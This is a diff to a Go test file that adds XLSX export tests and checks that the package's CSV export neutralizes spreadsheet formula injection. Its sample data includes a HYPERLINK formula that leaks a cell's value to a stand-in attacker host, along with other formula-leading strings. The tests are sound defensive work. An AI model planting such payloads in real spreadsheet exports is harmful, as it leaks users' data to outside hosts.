@@ -93,6 +93,9 @@ func write(t *testing.T, ix *analysis.Index, kind export.Kind, f export.Format, 
 		t.Fatalf("Write(%s, %s, %+v) again: %v", kind, f, o, err)
 	}
 	if !bytes.Equal(first.Bytes(), second.Bytes()) {
+		if f == export.XLSX {
+			t.Fatalf("Write(%s, %s) is not deterministic", kind, f)
+		}
 		t.Fatalf("Write(%s, %s) is not deterministic:\n%s\n---\n%s", kind, f, first.Bytes(), second.Bytes())
 	}
 	return first.Bytes()
@@ -408,19 +411,23 @@ func TestWriteRejectsBadOptions(t *testing.T) {
 			t.Errorf("Write(%s, %+v) wrote %q before failing", tc.kind, tc.o, buf.String())
 		}
 	}
-	if err := export.Write(new(bytes.Buffer), ix, "people", export.CSV, export.Options{}); engine.ErrorField(err) != "kind" {
-		t.Errorf("Write(people) = %v, want EINVALID on kind", err)
+	if err := export.Write(new(bytes.Buffer), ix, "matrix", export.CSV, export.Options{}); engine.ErrorField(err) != "kind" {
+		t.Errorf("Write(matrix) = %v, want EINVALID on kind", err)
+	}
+	var buf bytes.Buffer
+	if err := export.Write(&buf, ix, export.KindCatalogue, export.CSV, export.Options{}); engine.ErrorField(err) != "format" || buf.Len() != 0 {
+		t.Errorf("Write(catalogue, csv) = %v after writing %d bytes, want EINVALID on format before writing", err, buf.Len())
 	}
 }
 
 func TestParse(t *testing.T) {
-	for in, want := range map[string]export.Format{"csv": export.CSV, "JSON": export.JSON} {
+	for in, want := range map[string]export.Format{"csv": export.CSV, "JSON": export.JSON, "xlsx": export.XLSX, "XLSX": export.XLSX} {
 		if got, err := export.ParseFormat(in); err != nil || got != want {
 			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
 		}
 	}
-	if _, err := export.ParseFormat("xlsx"); engine.ErrorCode(err) != engine.EINVALID || !strings.Contains(err.Error(), `"xlsx"`) {
-		t.Errorf("ParseFormat(xlsx) = %v, want EINVALID naming it", err)
+	if _, err := export.ParseFormat("ods"); engine.ErrorCode(err) != engine.EINVALID || !strings.Contains(err.Error(), `"ods"`) {
+		t.Errorf("ParseFormat(ods) = %v, want EINVALID naming it", err)
 	}
 	for _, k := range export.Kinds {
 		if got, err := export.ParseKind(string(k)); err != nil || got != k {
@@ -436,6 +443,35 @@ func TestParse(t *testing.T) {
 	if got := export.CSV.ContentType(); !strings.HasPrefix(got, "text/csv") {
 		t.Errorf("CSV content type = %q", got)
 	}
+	if got := export.XLSX.ContentType(); got != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
+		t.Errorf("XLSX content type = %q", got)
+	}
+}
+
+// hostileIndex is a model of one sub-competency whose texts, and the
+// names and organizations of its people, start as spreadsheet formulas do
+// (the organization through the position).
+func hostileIndex(t *testing.T) *analysis.Index {
+	t.Helper()
+	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "@cmd", "\tTab", "Ada = Lovelace", "'=quoted"}
+	orgs := []string{"+SUM(A1:A9)", "-2+3", "\rReturn", "ODC Poland", "''-x"}
+	snap := analysis.Snapshot{
+		Framework: &engine.Framework{Name: "=Model", Competencies: []engine.Competency{{Code: "1.0", Title: "One",
+			SubCompetencies: []engine.SubCompetency{{Code: "1.A", Statement: "-Negotiate"}}}}},
+		Scale:    engine.DefaultScale(),
+		Courses:  []*engine.Course{{Code: "A-101", Title: "=1+1", Hours: 4, DeliveryMode: engine.DeliveryOnline, Status: engine.CourseActive, Provider: "@school"}},
+		Coverage: map[string][]engine.Coverage{"A-101": {{Course: "A-101", SubCompetency: "1.A", Level: "Basic"}}},
+	}
+	for i := range names {
+		id := "POS-" + strconv.Itoa(i+1)
+		snap.Positions = append(snap.Positions, &engine.Position{ID: id, Title: "\t-Officer", Organization: orgs[i], Grade: "GS-13", Category: "=SCO", Region: "+EUCOM"})
+		snap.People = append(snap.People, &engine.Person{ID: "P-" + strconv.Itoa(i+1), Name: names[i], PositionID: id})
+	}
+	ix, err := analysis.Build(snap)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return ix
 }
 
 // readCSV parses a CSV export.
@@ -448,47 +484,35 @@ func readCSV(t *testing.T, data []byte) [][]string {
 	return rows
 }
 
-// TestFormulasAreNeutralized: a text cell a spreadsheet would take for a
-// formula (starting with =, +, -, @, a tab or a carriage return) is
-// written with a quote before it; other text and the numeric columns
-// (here -1 requirements, a count no index gives but a caller might) are
+// TestFormulasAreNeutralized: in CSV, a text cell a spreadsheet would take
+// for a formula (starting with =, +, -, @, a tab or a carriage return) is
+// written with a quote before it, and one that starts with quotes before
+// such a character gets one more; other text and the numeric columns are
 // written as they are.
 func TestFormulasAreNeutralized(t *testing.T) {
 	t.Parallel()
-	var buf bytes.Buffer
-	people := []*analysis.Readiness{
-		{PersonID: "P-1", Name: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, Organization: "+SUM(A1:A9)", Requirements: -1},
-		{PersonID: "P-2", Name: "@cmd", Organization: "-2+3", Requirements: 2},
-		{PersonID: "P-3", Name: "\tTab", Organization: "\rReturn", Requirements: 0},
-		{PersonID: "P-4", Name: "Ada = Lovelace", Organization: "ODC Poland", Requirements: 3},
-	}
-	if err := export.Readiness(&buf, export.CSV, people); err != nil {
-		t.Fatal(err)
-	}
-	rows := readCSV(t, buf.Bytes())
+	ix := hostileIndex(t)
+	rows := readCSV(t, write(t, ix, export.KindReadiness, export.CSV, export.Options{}))
 	want := [][2]string{
 		{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'+SUM(A1:A9)"},
 		{"'@cmd", "'-2+3"},
 		{"'\tTab", "'\rReturn"},
 		{"Ada = Lovelace", "ODC Poland"},
+		{"''=quoted", "'''-x"},
 	}
 	for i, w := range want {
 		if got := [2]string{rows[i+1][1], rows[i+1][3]}; got != w {
 			t.Errorf("row %d: name and organization %q, want %q", i+1, got, w)
 		}
 	}
-	if got := rows[1][6]; got != "-1" {
-		t.Errorf("the numeric column requirements holds %q, want -1 as it is", got)
+	if got := rows[1][6]; got != "0" {
+		t.Errorf("the numeric column requirements holds %q, want 0 as it is", got)
 	}
-
-	buf.Reset()
-	m := &analysis.Matrix{Levels: []string{"Basic"}, Courses: []analysis.MatrixCourse{{Code: "A-101"}},
-		Rows: []analysis.MatrixRow{{SubCompetency: "1.A", Competency: "1.0", Statement: "-Negotiate", CountByLevel: []int{1},
-			Cells: []analysis.Cell{{Course: "A-101", Level: "Basic"}}, Highest: "Basic"}}}
-	if err := export.Coverage(&buf, export.CSV, m); err != nil {
-		t.Fatal(err)
-	}
-	if got := readCSV(t, buf.Bytes())[1][2]; got != "'-Negotiate" {
+	if got := readCSV(t, write(t, ix, export.KindCoverage, export.CSV, export.Options{}))[1][2]; got != "'-Negotiate" {
 		t.Errorf("coverage statement %q, want '-Negotiate", got)
+	}
+	positions := readCSV(t, write(t, ix, export.KindPositions, export.CSV, export.Options{}))
+	if got, want := positions[1][1:7], []string{"'\t-Officer", "'+SUM(A1:A9)", "GS-13", "'=SCO", "false", "'+EUCOM"}; !slices.Equal(got, want) {
+		t.Errorf("position row %q, want %q", got, want)
 	}
 }
